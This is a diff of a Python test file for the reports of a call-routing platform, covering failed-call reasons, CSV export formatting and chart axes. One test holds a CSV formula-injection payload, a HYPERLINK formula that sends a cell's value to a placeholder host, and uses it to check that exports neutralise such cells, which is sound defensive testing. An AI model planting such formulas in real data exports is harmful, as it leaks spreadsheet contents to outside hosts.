@@ -12,7 +12,7 @@ from tests.callrecords import dialogue, record, store
 from veertien.reports import REPORTS, ReportError, ReportParams, ReportTimeout, run_report
 from veertien.reports.charts import svg
 from veertien.reports.export import cell, to_csv
-from veertien.reports.model import limited
+from veertien.reports.model import ColumnKind, limited
 from veertien.storage import DataDir
 from veertien.storage.store import Storage
 
@@ -50,6 +50,24 @@ def calls(storage: Storage) -> Storage:
 
 def rows(storage: Storage, name: str, params: ReportParams = ALL) -> list[tuple[object, ...]]:
     return list(run_report(storage.engine, name, params, NAMES).rows)
+
+
+def test_failed_calls_by_reason(calls: Storage) -> None:
+    """The operator's question after a day: which calls did not get where they were meant to,
+    and why (404, 480 without a destination, hung up, sent to the default desk, refused)."""
+    store(calls.engine, [
+        dialogue(("spoke", "confirm_asked", "corrected", "repeated", "keypad", "default_desk",
+                  "transferred"), route="speech", municipality="GM0664", started=TUE),
+        record(started=WED, municipality="GM0995", target=None, response=480,
+               outcome="refused", rule="no_destination", final_rule="no_destination"),
+    ])  # fmt: skip
+    found = {r[0]: (r[2], r[3]) for r in rows(calls, "mislukt")}
+    assert found == {
+        "unknown_number": (1, round(1 / 13, 4)), "no_municipality": (0, 0.0),
+        "no_destination": (1, round(1 / 13, 4)), "not_connected": (0, 0.0),
+        "hung_up": (2, round(2 / 13, 4)), "default_desk": (1, round(1 / 13, 4)),
+        "refused": (2, round(2 / 13, 4)),
+    }  # fmt: skip
 
 
 def test_volume(calls: Storage) -> None:
@@ -119,8 +137,9 @@ def test_calamity_and_closed_hours(calls: Storage) -> None:
 def test_every_report_has_csv_and_a_chart(calls: Storage) -> None:
     for name in REPORTS:
         result = run_report(calls.engine, name, ALL, NAMES)
-        lines = to_csv(result).splitlines()
-        assert lines[0].split(";") == [c.key for c in result.columns]
+        lines = to_csv(result).removeprefix("\ufeff").splitlines()
+        people = [c.label for c in result.columns if c.kind is not ColumnKind.CODE]
+        assert lines[0].split(";") == people
         assert len(lines) == len(result.rows) + 1
         drawn = svg(result)
         assert drawn.startswith("<svg") if result.rows else drawn == ""
@@ -192,7 +211,7 @@ def test_csv_cells_that_would_be_formulas_are_neutralised(calls: Storage) -> Non
     """A municipality named like a formula (an imported directory is an operator's data) was
     exported raw and ran in a spreadsheet: it now starts with an apostrophe (OWASP)."""
     evil = {**NAMES, "GM0664": '=HYPERLINK("http://x.invalid/?"&A1,"klik")', "GM0678": "@SUM(1+1)"}
-    sheet = to_csv(run_report(calls.engine, "gemeenten", ALL, evil))
+    sheet = to_csv(run_report(calls.engine, "gemeenten", ALL, evil)).removeprefix("\ufeff")
     assert "'=HYPERLINK(" in sheet and "'@SUM(1+1)" in sheet
     assert not any(line.split(";")[1].startswith(("=", "@")) for line in sheet.splitlines())
 
@@ -200,7 +219,26 @@ def test_csv_cells_that_would_be_formulas_are_neutralised(calls: Storage) -> Non
 @pytest.mark.parametrize(
     ("value", "written"),
     [("=1+1", "'=1+1"), ("+31", "'+31"), ("-x", "'-x"), ("@a", "'@a"), ("\tx", "'\tx"),
-     ("Goes", "Goes"), (-5, -5), (0.25, 0.25), (None, "")],
+     ("Goes", "Goes"), (-5, "-5"), (0.25, "0,25"), (None, "")],
 )  # fmt: skip
 def test_a_cell(value: object, written: object) -> None:
     assert cell(value) == written
+
+
+def test_one_day_of_data_is_a_bar_from_zero_not_a_dot() -> None:
+    """A new platform's first day drew one dot on a 55-61 axis: it is a labelled bar on an
+    axis from zero, and a few days are a line (also from zero)."""
+    from matplotlib.figure import Figure  # noqa: PLC0415
+
+    from veertien.reports.charts import _series  # noqa: PLC0415
+    from veertien.reports.model import Chart  # noqa: PLC0415
+
+    chart = Chart("line", "day", "calls")
+    axes = Figure().add_subplot()
+    _series(axes, [{"day": "2026-12-02", "calls": 58}], chart)
+    assert len(axes.patches) == 1 and not axes.lines and axes.get_ylim()[0] == 0
+    assert [t.get_text() for t in axes.texts] == ["58"]
+    axes = Figure().add_subplot()
+    days = [{"day": f"2026-12-0{d}", "calls": 55 + d} for d in range(1, 5)]
+    _series(axes, days, chart)
+    assert len(axes.lines) == 1 and axes.get_ylim()[0] == 0
